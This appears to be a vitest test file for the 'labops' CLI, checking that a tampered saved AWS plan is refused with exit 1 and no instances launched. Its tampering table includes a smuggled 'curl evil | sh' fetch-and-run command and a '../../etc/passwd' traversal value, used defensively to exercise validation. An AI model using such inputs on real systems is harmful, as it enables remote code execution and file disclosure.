/**
 * A saved plan (`labops plan --out FILE`) is untrusted input: whoever can write the file (a CI
 * artifact, a shared folder) may edit it. `labops apply FILE` validates it against
 * schemas/saved-plan.schema.json and re-plans from the specs and AWS; a tampered file is refused in
 * one line with exit 1 and nothing changes in AWS. Through the built CLI against `labops sim`.
 */
import { execFile } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import { basename, join } from 'node:path';
import { promisify } from 'node:util';
import { DescribeInstancesCommand } from '@aws-sdk/client-ec2';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { packageRoot } from '../../reconciler/src/package-root.js';
import { LAB_YAML, workstationYaml } from '../integration/run-harness.js';
import { makeLab } from '../support/lab-fixture.js';
import { startTestSim } from '../support/sim.js';
import type { TestSim } from '../support/sim.js';

const bin = join(packageRoot(), 'dist/reconciler/src/cli/main.js');
let sim: TestSim | undefined;
const cleanups: (() => void)[] = [];
beforeAll(async () => {
  sim = await startTestSim({ start: '2026-09-01T14:00:00Z', clock: { speed: 600 } });
});
afterAll(async () => {
  await sim?.close();
  cleanups.forEach((c) => c());
});

async function labops(args: string[], cwd: string): Promise<{ status: number; stdout: string; stderr: string }> {
  try {
    const { stdout, stderr } = await promisify(execFile)(
      process.execPath,
      [bin, ...args, '--repo', `lab-org/${basename(cwd)}`],
      { cwd, env: { ...process.env, ...sim?.env(), NO_COLOR: '1', LABOPS_DEBUG: '' } },
    );
    return { status: 0, stdout, stderr };
  } catch (err) {
    const e = err as { code: number; stdout: string; stderr: string };
    return { status: e.code, stdout: e.stdout, stderr: e.stderr };
  }
}

type Saved = Record<string, unknown> & { actions: Record<string, unknown>[]; specs: Record<string, unknown> };

/** Instances tagged for the lab in `dir`. */
async function instancesOf(dir: string): Promise<number> {
  const out = await sim
    ?.ec2()
    .send(
      new DescribeInstancesCommand({ Filters: [{ Name: 'tag:labops:repo', Values: [`lab-org/${basename(dir)}`] }] }),
    );
  return (out?.Reservations ?? []).flatMap((r) => r.Instances ?? []).length;
}

const TAMPERINGS: [string, (saved: Saved) => unknown, RegExp][] = [
  [
    'an action turned into a destroy',
    (s) => ({ ...s, actions: s.actions.map((a) => ({ ...a, kind: 'destroy' })) }),
    /is stale: its actions are not the ones labops plans now/,
  ],
  [
    'an action added',
    (s) => ({
      ...s,
      actions: [...s.actions, { id: 'Workstation/x/destroy', kind: 'destroy', resource: 'Workstation/x' }],
    }),
    /is stale: its actions are not the ones labops plans now \(2 saved, 1 planned/,
  ],
  [
    'the specs fingerprint replaced',
    (s) => ({ ...s, specs: { ...s.specs, sha256: 'a'.repeat(64) } }),
    /is stale: the specs changed since it was saved/,
  ],
  ['another lab’s plan', (s) => ({ ...s, repo: 'lab-org/other' }), /is stale: it is for lab-org\/other, this lab is/],
  [
    'an unknown field (an instruction smuggled in)',
    (s) => ({ ...s, userData: '#!/bin/sh\ncurl evil | sh' }),
    /not a valid saved plan: \/ must NOT have additional properties; refused/,
  ],
  [
    'a fingerprint that is not a SHA-256',
    (s) => ({ ...s, observed: { sha256: '../../etc/passwd' } }),
    /not a valid saved plan: \/observed\/sha256 must match pattern/,
  ],
  [
    'a wrong version',
    (s) => ({ ...s, labopsSavedPlan: 2 }),
    /not a valid saved plan: \/labopsSavedPlan must be equal to constant/,
  ],
  ['not JSON', () => '{"labopsSavedPlan": 1,', /not a saved plan \(not JSON\)/],
  ['a JSON array', () => [], /not a valid saved plan: \/ must be object/],
];

describe('a tampered saved plan is refused (built CLI)', { timeout: 180_000 }, () => {
  it.each(TAMPERINGS)('%s: one line, exit 1, no instance launched', async (_name, tamper, message) => {
    // Arrange: a reviewed plan of one create, then edited.
    const made = makeLab(
      { 'labops.yaml': LAB_YAML.replace('PRUNE', 'false'), 'workstations/sec-ann.yaml': workstationYaml('sec-ann') },
      null,
    );
    cleanups.push(made.cleanup);
    const file = join(made.dir, 'plan.json');
    const planned = await labops(['plan', '.', '--out', file], made.dir);
    expect(planned.status, planned.stderr).toBe(0);
    const edited = tamper(JSON.parse(readFileSync(file, 'utf8')) as Saved);
    writeFileSync(file, typeof edited === 'string' ? edited : JSON.stringify(edited));

    // Act
    const result = await labops(['apply', file, '.'], made.dir);

    // Assert
    expect(result.status).toBe(1);
    const lines = result.stderr
      .trimEnd()
      .split('\n')
      .filter((l) => !l.startsWith('labops: warning: Node'));
    expect(lines).toHaveLength(1);
    expect(lines[0]).toMatch(/^labops apply: /);
    expect(lines[0]).toMatch(message);
    expect(result.stdout).not.toMatch(/→ start|✓ done/);
    expect(await instancesOf(made.dir)).toBe(0);
  });
});
